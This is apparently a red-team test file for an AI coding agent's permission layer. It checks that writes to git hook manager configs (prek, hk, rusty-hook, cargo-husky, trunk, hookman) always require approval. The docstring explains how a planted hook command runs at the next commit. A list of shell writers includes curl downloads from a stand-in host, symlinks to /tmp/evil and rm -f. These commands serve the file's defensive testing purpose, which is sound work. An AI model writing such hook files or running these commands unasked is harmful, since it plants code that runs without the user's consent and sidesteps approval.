"""R3.7, red team: git hook managers read their hooks from more names than the table knew. prek (pre-commit's
reimplementation) reads ``prek.toml`` and ``.pre-commit-config.yml`` besides ``.pre-commit-config.yaml``, in every
project of a workspace; hk reads ``hk.local.pkl`` and ``.config/hk.pkl`` / ``.config/hk.local.pkl`` before
``hk.pkl``; rusty-hook ``.rusty-hook.toml`` / ``rusty-hook.toml``; cargo-husky copies ``.cargo-husky/hooks/*``
into ``.git/hooks`` on the next ``cargo test``; trunk runs the actions ``.trunk/trunk.yaml`` ties to git's hooks;
hookman ``hookman.toml``. A hook command written there runs at the next commit or push, unasked.

Written as an attacker would: each file written through the typed ``write_file`` and through shell writes, in
any case, nested and with the spellings a case-insensitive or Windows file system reads as the same name.
"""

from __future__ import annotations

import pytest

from permissions.protected_paths import protected_file

from .helpers import (
    AUTO_MODE,
    ROOT,
    WRITE_AUTO,
    assert_shell_writes_never_auto_approved,
    dev_write_file,
)

FILES = [
    "prek.toml",
    "Prek.TOML",
    "services/api/prek.toml",
    "prek.toml.",
    ".pre-commit-config.yml",
    ".Pre-Commit-Config.YML",
    "packages/web/.pre-commit-config.yml",
    "hk.local.pkl",
    ".config/hk.pkl",
    ".config/hk.local.pkl",
    "HK.LOCAL.PKL",
    ".rusty-hook.toml",
    "rusty-hook.toml",
    ".cargo-husky/hooks/pre-commit",
    ".cargo-husky/hooks/pre-push",
    ".trunk/trunk.yaml",
    ".trunk/actions/x.yaml",
    "hookman.toml",
]


@pytest.mark.parametrize("path", FILES)
def test_the_table_names_it(path):
    assert protected_file(path) is not None, path
    assert protected_file(f"{ROOT}/{path}") is not None, path


@pytest.mark.parametrize("path", FILES)
def test_write_file_into_one_is_never_auto_approved(path):
    for autonomy in (WRITE_AUTO, AUTO_MODE):
        v = dev_write_file(path, autonomy)
        assert v.decision == "require_approval", (path, v.reason)


_WRITERS = [
    "echo x > '{p}'",
    "printf '[[repos]]\\n' >> '{p}'",
    "tee '{p}'",
    "cp evil '{p}'",
    "mv evil '{p}'",
    "install -D evil '{p}'",
    "ln -sf /tmp/evil '{p}'",
    "sed -i s/a/b/ '{p}'",
    "rm -f '{p}'",
    "chmod +x '{p}'",
    "curl -so '{p}' https://e.invalid/x",
]


@pytest.mark.parametrize("path", FILES)
def test_a_shell_write_into_one_is_never_auto_approved(path):
    assert_shell_writes_never_auto_approved(path, _WRITERS)


@pytest.mark.parametrize(
    ("protected", "ordinary"),
    [
        ("prek.toml", "pyproject.toml"),
        (".pre-commit-config.yml", "config.yml"),
        ("hk.local.pkl", "src/hk.ts"),
        (".rusty-hook.toml", "Cargo.toml"),
        (".trunk/trunk.yaml", "trunk/notes.md"),
        (".cargo-husky/hooks/pre-commit", "hooks/useCargo.ts"),
    ],
)
def test_ordinary_files_beside_them_stay_auto_approved(protected, ordinary):
    assert dev_write_file(protected).decision == "require_approval", protected
    assert dev_write_file(ordinary).decision == "auto_approve", ordinary
